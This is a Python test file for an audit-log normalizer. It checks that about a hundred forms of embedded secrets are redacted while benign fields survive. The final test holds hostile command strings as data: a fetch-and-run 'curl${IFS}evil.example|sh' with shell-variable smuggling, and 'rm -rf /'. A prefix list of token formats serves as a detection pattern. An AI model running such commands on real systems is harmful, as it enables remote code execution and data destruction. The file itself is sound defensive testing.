"""
A hundred ways in which a secret may be in a record: what is hidden, and what is not, and why.

``S`` in a payload is the secret. Each is tried as the details of a record, as a field that the
vendor adds, and as a text of a documented field.
"""

import base64
import json
from collections.abc import Callable
from typing import Any

import pytest
from tests.events.test_gate import with_care

from auditrelay.events import AuditEvent, pack
from auditrelay.events.normalize import Normalizer
from auditrelay.events.secret_texts import MARK

S = "hUnter2x837465928374Q"
JWT = f"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.{S}"
PEM = (
    f"-----BEGIN RSA PRIVATE KEY-----\n{S}0123456789\nabcdefghijklmnop{S}\n"
    "-----END RSA PRIVATE KEY-----"
)
ENCODED = base64.b64encode(json.dumps({"password": S}).encode()).decode()
BASIC = base64.b64encode(f"dana:{S}".encode()).decode()

UNDER_KEYS = [
    *(
        "password",
        "PASSWORD",
        "userPassword",
        "passwort",
        "contraseña",
        "pass",
        "pwd",
        "passphrase",
    ),
    *("token", "access_token", "refreshToken", "client_secret", "api_key", "apiKey", "X-Api-Key"),
    *("private_key", "gpg_key", "deploy_key", "signing_key", "connection_string", "cookie", "otp"),
    *("seed_phrase", "mfa_code", "verification_code", "backup_codes", "saml_response"),
    *(
        "client_assertion",
        "session_id",
        "auth",
        "key",
        "pem",
        "private",
        "signature",
        "code",
        "pin",
    ),
    *("\u0440\u0430ssword", "\uff54\uff4f\uff4b\uff45\uff4e", "pass\u200bword", "t\u043eken"),
    *("s\u0435cret", "p\u0430ssw\u043erd", "api\u00adkey"),
]

HIDDEN: dict[str, Any] = {
    **{f"key {key!r}": {key: S} for key in UNDER_KEYS},
    "nested": {"a": [{"b": {"secret": {"deep": [S]}}}]},
    "pair name, value": {"name": "Authorization", "value": f"Bearer {S}"},
    "pair k, v": {"k": "X-Api-Key", "v": S},
    "pair field, before, after": {"field": "api_key", "before": S, "after": [S]},
    "pair field_name": {"field_name": "client_secret", "new_value": S},
    "pair attribute": {"attribute": "password", "value": S},
    "JSON patch": {"op": "replace", "path": "/user/password", "value": S},
    "list of header and value": ["Authorization", f"Basic {BASIC}", "Accept", "*/*"],
    "list of header lines": ["Accept: */*", f"Authorization: Bearer {S}"],
    "JSON in a text": json.dumps({"token": S}),
    "JSON in JSON in a text": json.dumps({"body": json.dumps({"token": S})}),
    "broken JSON": '{"token": "' + S + '", "cut',
    "JSON behind a prefix": f'body: {{"token": "{S}"}}',
    "compact JSON behind a prefix": f'body={{"token":"{S}"}}',
    "Python repr": f"{{'password': '{S}', 'x': None}}",
    "header line": f"Authorization: Bearer {S}",
    "header line, basic": f"Authorization: Basic {BASIC}",
    "header block": f"Host: a.example\r\nX-Api-Key: {S}\r\nAccept: */*",
    "cookie line": f"Cookie: theme=dark; sid={S}",
    "bearer alone": f"sent with Bearer {S}",
    "curl -H": f"curl -H 'Authorization: Bearer {S}' https://a.example",
    "curl -u": f"curl -u dana:{S} https://a.example",
    "curl --user": f"curl --user dana:{S} https://a.example",
    "mysql -p": f"mysql -u root -p{S} payroll",
    "assignment": f"API_TOKEN={S}",
    "exported": f"export DB_PASSWORD='{S}' && run",
    "long option": f"login --password={S}",
    "quoted behind a colon": f'password:"{S}"',
    "escaped behind a colon": f'x\tpassword:\\"{S}\\"',
    "words in quotation marks before the name": f"has\u201ctoken={S}",
    "YAML": f"user: dana\npassword: {S}\n",
    "YAML, quoted": f'user: dana\npassword: "{S}"',
    "form": f"user=dana&password={S}&x=1",
    "INI": f"[db]\nuser=dana\npassword={S}",
    "INI with blanks": f"password = {S}",
    "XML": f"<user><password>{S}</password></user>",
    "XML with a namespace": f'<ns:Token type="a">{S}</ns:Token>',
    "ADO string": f"Server=db;User Id=dana;Password={S};",
    "free text": f"the password: {S} was sent",
    "password of an address": f"https://dana:{S}@a.example/x",
    "token as the user of an address": f"https://{S}@a.example/x",
    "parameter": f"https://a.example/?a=1&token={S}&b=2",
    "parameter sid": f"https://a.example/?sid={S}",
    "parameter session": f"https://a.example/?session={S}",
    "parameter code": f"https://a.example/cb?code={S}",
    "fragment": f"https://a.example/cb#access_token={S}",
    "matrix parameter": f"https://a.example/a;token={S}",
    "percent in the name": f"https://a.example/?to%6ben={S}",
    "address without a scheme": f"a.example/cb?session_id={S}",
    "signed address": f"https://b.example/x?X-Amz-Signature={S}",
    "Slack webhook": f"https://hooks.slack.com/services/T0/B0/{S}",
    "Slack webhook without a scheme": f"hooks.slack.com/services/T0/B0/{S}",
    "magic link": f"https://a.example/login?ticket={S}",
    "JWT": JWT,
    "JWT in a text": f"it is {JWT}.",
    "PEM": PEM,
    "PEM in a text": f"key:\n{PEM}\nend",
    "Stripe": f"sk_live_{S}",
    "Stripe, test": f"rk_test_{S}",
    "OpenAI": f"sk-proj-{S}",
    "Anthropic": f"sk-ant-api03-{S}",
    "GitHub": f"ghp_{S}",
    "GitHub, fine": f"github_pat_{S}_{S}",
    "GitLab": f"glpat-{S}",
    "Slack": f"xoxb-123-{S}",
    "AWS key id": "AKIA" + S.upper(),
    "Google": f"AIza{S}{S}",
    "npm": f"npm_{S}",
    "PyPI": f"pypi-AgEI{S}",
    "webhook secret": f"whsec_{S}",
    "Docker": f"dckr_pat_{S}",
    "Hugging Face": f"hf_{S}",
    "SendGrid": f"SG.{S}.{S}",
    "token as a key": {f"sk_live_{S}": 1},
    "JSON in base64": ENCODED,
}  # fmt: skip

NOT_HIDDEN: dict[str, tuple[Any, str]] = {
    "AWS secret under a harmless key": (
        {"note": "wJalrXUtnFEMIK7MDENG" + S},
        "nothing tells it from an id",
    ),
    "is_token": ({"is_token": S}, "by its first word a flag"),
    "token_uri": ({"token_uri": S}, "describes a secret: an address"),
    "token_name": ({"token_name": S}, "describes a secret: needed to know which one was changed"),
    "secret_at": ({"secret_at": S}, "describes a secret: a time"),
    "password_url": ({"password_url": S}, "describes a secret: an address"),
    "colon without a blank": (f"password:{S}", "a colon without a blank is in every record"),
    "words only, in a pair": (
        {"name": "password", "value": "changeme", "note": S},
        "the one who names a thing would choose what is hidden beside it: a role is a word, too",
    ),
    "words only, after a colon": (
        f"password: changeme, says {S}",
        "in prose a word after a colon is seldom the secret",
    ),
    "path of a link": (f"https://a.example/reset/{S}", "nothing tells it from an id"),
    "JSON in base64, standing in more": (f"data:x;base64x{ENCODED}{S}", "it does not decode"),
    "hex of a text": ({"note": f"password={S}".encode().hex() + S}, "any text may be hidden so"),
}
"""What survives, with the reason."""

USUAL: dict[str, dict[str, Any]] = {
    "bland": {"id": "b-1", "org_id": "o", "created_at": "2026-11-20T09:31:07.412Z"},
    "jitsudo": {"id": "j-1", "created_at": "2026-11-20T09:31:07.412Z"},
}

One = Callable[..., AuditEvent]


def records(payload: Any) -> list[dict[str, Any]]:
    found = [
        {**USUAL["bland"], "metadata": {"x": payload}},
        {**USUAL["bland"], "added": payload},
        {**USUAL["jitsudo"], "metadata": payload},
    ]
    if isinstance(payload, str):
        found.append({**USUAL["jitsudo"], "reasoning": payload})
        found.append({**USUAL["bland"], "resource_id": payload})
    return found


def survives(event: AuditEvent) -> bool:
    text = pack([event]).decode()
    return any(secret.lower() in text.lower() for secret in (S, BASIC, ENCODED))


@pytest.mark.parametrize("name", HIDDEN)
def test_it_is_hidden_and_where_is_noted(name: str, one: One) -> None:
    for record in records(HIDDEN[name]):
        vendor = "jitsudo" if record["id"] == "j-1" else "bland"
        event = one(json.dumps(record, ensure_ascii=False, separators=(",", ":")).encode(), vendor)
        assert not survives(event), (bytes(event.raw), event.message)
        assert MARK.encode() in bytes(event.raw)
        assert event.redacted


@pytest.mark.parametrize("name", NOT_HIDDEN)
def test_it_survives_for_a_reason(name: str, one: One) -> None:
    payload, reason = NOT_HIDDEN[name]
    assert reason
    for record in records(payload):
        event = one(record, "jitsudo" if record["id"] == "j-1" else "bland")
        assert survives(event)


@pytest.mark.parametrize("name", [*HIDDEN, *NOT_HIDDEN])
def test_read_with_its_page_it_is_as_read_alone(
    name: str, normalizer: Callable[..., Normalizer]
) -> None:
    payload = HIDDEN[name] if name in HIDDEN else NOT_HIDDEN[name][0]
    for vendor, usual in USUAL.items():
        normalize = normalizer(vendor)
        texts = [
            json.dumps(record, ensure_ascii=False, separators=(",", ":")).encode()
            for record in (*records(payload), usual, {**usual, "added": "a: b=c"})
        ]
        for _ in range(2):
            assert list(normalize(texts, 5)) == with_care(normalize, texts)


@pytest.mark.parametrize(
    "beginning",
    [
        *("sk_live_", "sk_test_", "rk_live_", "rk_test_", "sk-proj-", "sk-ant-", "sk-svcacct-"),
        *("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "glpat-", "npm_", "pypi-AgEI"),
        *("xoxa-", "xoxb-", "xoxe-", "xoxp-", "xoxr-", "xoxs-", "AKIA", "ASIA", "AIza", "GOCSPX-"),
        *("dckr_pat_", "whsec_", "hf_", "shpat_", "SG.ABCDEFABCDEF.", "eyJhbGci.", "eyJ"),
        *("hooks.slack.com/services/", "-----BEGIN PRIVATE KEY-----"),
    ],
)
def test_a_token_is_known_by_how_it_begins_among_usual_records(
    beginning: str, normalizer: Callable[..., Normalizer]
) -> None:
    secret = "ABCDEF0123456789" * 2
    if beginning == "eyJ":
        beginning, secret = "", base64.b64encode(b'{"token":"ABCDEF0123456789"}').decode()
    record = {**USUAL["jitsudo"], "reasoning": f"it is {beginning}{secret}"}
    texts = [
        json.dumps(each, separators=(",", ":")).encode()
        for each in (*[USUAL["jitsudo"]] * 3, record, USUAL["jitsudo"])
    ]
    events = list(normalizer("jitsudo")(texts, 5))
    assert secret not in str(events[3].reason)
    assert [bool(each.redacted) for each in events] == [False, False, False, True, False]


def test_there_are_a_hundred() -> None:
    assert len(HIDDEN) + len(NOT_HIDDEN) >= 100


# -- what is no secret


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("password_changed", True),
        ("mfa_secret_removed", True),
        ("api_key_revoked", True),
        ("token_enabled", False),
        ("passwordReset", "yes"),
        ("tokens_deleted", 3),
        ("secrets", 12),
        ("api_keys", 4),
        ("password_strength", "weak"),
        ("password_age_days", 400),
        ("token_ttl_seconds", 86_400),
        ("failed_password_attempts", 5),
        ("authorization_model", "rbac"),
        ("cookie_consent", False),
        ("password", None),
        ("password", ""),
        ("credentials", []),
        ("pin", True),
        ("code", "ERR_TIMEOUT"),
        ("code", 404),
        ("key", "project-settings"),
        ("signature", "login failed"),
        ("session_id", "0f6c0a5e-9a55-4a5e-8f5e-7f6a0c1e0001"),
        ("auth", "oidc"),
    ],
)
def test_a_value_that_cannot_be_a_secret_is_kept(key: str, value: object, one: One) -> None:
    record = {**USUAL["bland"], "metadata": {key: value}}
    event = one(record)
    assert json.loads(bytes(event.metadata)) == {key: value}
    assert event.redacted == ()


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("password", 123_456),
        ("pin", 1234),
        ("pin", "0000"),
        ("otp", 123_456),
        ("token", 5),
        ("password_changed", "hunter2"),
        ("tokens", 8_374_659_283_746),
        ("password", "true"),
    ],
)
def test_a_number_or_a_word_may_be_a_secret(key: str, value: object, one: One) -> None:
    event = one({**USUAL["bland"], "metadata": {"a": {key: value}}})
    assert json.loads(bytes(event.metadata)) == {"a": {key: MARK}}
    assert event.redacted == (f"metadata.a.{key}",)


def test_what_is_replaced_is_not_replaced_again(one: One) -> None:
    event = one({**USUAL["bland"], "metadata": {"x": f"Authorization: Basic {BASIC}, ok"}})
    assert json.loads(bytes(event.metadata)) == {"x": f"Authorization: Basic {MARK}, ok"}


# -- an insider chooses names and texts


def test_a_thing_that_is_named_token_does_not_hide_a_change_of_role(one: One) -> None:
    record = {
        "id": "1",
        "organization_id": "o",
        "category": "member",
        "action": "role_changed",
        "resource_type": "member",
        "resource_id": "m-1",
        "actor_email": "dana@acme.example",
        "created_at": "2026-11-20T09:31:07.412Z",
    }
    for before, after in (("member", "admin"), ({"role": "member"}, {"role": "org owner"})):
        details = {"name": "token", "before": before, "after": after, "new_role": "admin"}
        event = one(record | {"metadata": details}, "cencori")
        assert json.loads(bytes(event.metadata)) == details
        assert event.changes[0].after == json.dumps(after if after == "admin" else "org owner")
        assert event.redacted == ()


@pytest.mark.parametrize(
    "text",
    [
        '{" token:{ i ran rm -rf / on db',
        '{"token":{ i ran rm -rf / on db',
        "x://;token=curl${IFS}evil.example|sh",
        "x://curl${IFS}evil.example|sh@",
        "x://a:curl${IFS}evil.example|sh@b",
        "prod://payroll-db@x",
        "secret: rotated by dana, see the ticket",
        "-----BEGIN PRIVATE KEY----- i ran it on db",
        "Authorization: granted by dana",
        "password=rm -rf / on db",
    ],
)
def test_a_text_does_not_hide_what_else_it_says(text: str, one: One) -> None:
    record = {**USUAL["jitsudo"], "actor_id": "dana", "action": "grant.active"}
    for field in ("reasoning", "resource_id"):
        event = one({**record, field: text}, "jitsudo")
        kept = event.reason if field == "reasoning" else event.target.id
        for word in ("rm -rf", "evil.example", "payroll-db", "on db", "by dana", "the ticket"):
            assert (word in text) == (word in str(kept)) or word == "rm -rf", kept
        assert (event.actor.id, event.native_action) == ("dana", "grant.active")
        assert bool(event.redacted) == (kept != text)
